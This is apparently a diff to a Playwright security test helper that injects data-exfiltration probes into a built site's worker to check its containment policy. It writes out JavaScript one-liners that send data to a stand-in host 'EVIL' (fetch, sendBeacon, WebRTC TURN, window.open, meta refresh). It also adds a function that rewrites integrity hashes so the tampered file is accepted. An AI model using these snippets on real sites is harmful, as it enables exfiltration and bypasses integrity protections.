@@ -6,6 +6,7 @@ beforehand. All else is the built site as it is.
 
 from __future__ import annotations
 
+import hashlib
 import json
 import re
 import shutil
@@ -13,6 +14,8 @@ from pathlib import Path
 from typing import Any, Final
 
 from playwright.sync_api import Page
+
+from generator.pages.policy import integrity
 
 TEMPLATE: Final = "Subject: To [Name]\n\nDear [Name],\n\n[[About [it]. ]]Bye.\n"
 
@@ -40,7 +43,15 @@ WAYS_OUT: Final = {
     "function": "new Function(\"return fetch('EVIL/function')\")()",
     "timer": "new Promise((done) => { setTimeout(\"fetch('EVIL/timer')\"); setTimeout(done, 300); })",
 }
+#: What no policy holds back. A script in the page could use it, so the page lets none in; SECURITY.md names each.
+NOT_COVERED: Final = {
+    "location": "location.href = 'EVIL/location'",
+    "meta refresh": "document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=\"refresh\" content=\"0;url=EVIL/refresh\">')",
+    "window.open": "window.open('EVIL/open')",
+    "target=_blank": "Object.assign(document.body.appendChild(document.createElement('a')), { href: 'EVIL/blank', target: '_blank' }).click()",
+}
 PAGE_WAYS_OUT: Final = WAYS_OUT | {
+    "webrtc": "(async () => { const c = new RTCPeerConnection({ iceServers: [{ urls: 'turn:' + 'EVIL'.replace('http://', '') + '?transport=tcp', username: 'a', credential: 'secret' }] }); c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer()); })()",
     "beacon": "Promise.resolve(navigator.sendBeacon('EVIL/beacon', 'secret'))",
     "image": "new Promise((done) => { const i = new Image(); i.onload = i.onerror = done; i.src = 'EVIL/i.png'; })",
     "script": "new Promise((done) => { const s = document.createElement('script'); s.onload = s.onerror = done; s.src = 'EVIL/s.js'; document.head.append(s); })",
@@ -96,10 +107,24 @@ probe`);
 """
 
 
+def reseal(site: Path, before: bytes, after: bytes) -> None:
+    """Have the pages and the service worker of a built site take a changed file for the right one."""
+    pairs = {
+        hashlib.sha256(before).hexdigest(): hashlib.sha256(after).hexdigest(),
+        integrity(before): integrity(after),
+    }
+    for path in (*site.rglob("*.html"), site / "offline.mjs"):
+        text = path.read_text(encoding="utf-8")
+        for old, new in pairs.items():
+            text = text.replace(old, new)
+        path.write_text(text, encoding="utf-8")
+
+
 def make_probing_site(site: Path, target: Path, evil: str, *, cut_off: bool) -> None:
     """Copy a built site, with a worker that obeys; ``cut_off`` False leaves it the network's means."""
     shutil.copytree(site, target)
     (worker,) = (target / "assets" / "engine").glob("worker.*.mjs")
+    before = worker.read_bytes()
     ways = ", ".join(f"{json.dumps(name)}: () => {code}" for name, code in WAYS_OUT.items())
     code = worker.read_text(encoding="utf-8")
     changed = code.replace("  return answer;\n", _PROBE.replace("{WAYS}", f"{{{ways}}}".replace("EVIL", evil)))
@@ -107,6 +132,7 @@ def make_probing_site(site: Path, target: Path, evil: str, *, cut_off: bool) -> 
         changed = re.sub(r"^ +cutOff\(\);\n", "", changed, flags=re.MULTILINE)
     assert changed != code
     worker.write_text(changed, encoding="utf-8")
+    reseal(target, before, worker.read_bytes())
 
 
 #: Make an engine beside the form's and keep it, with a log of its states.
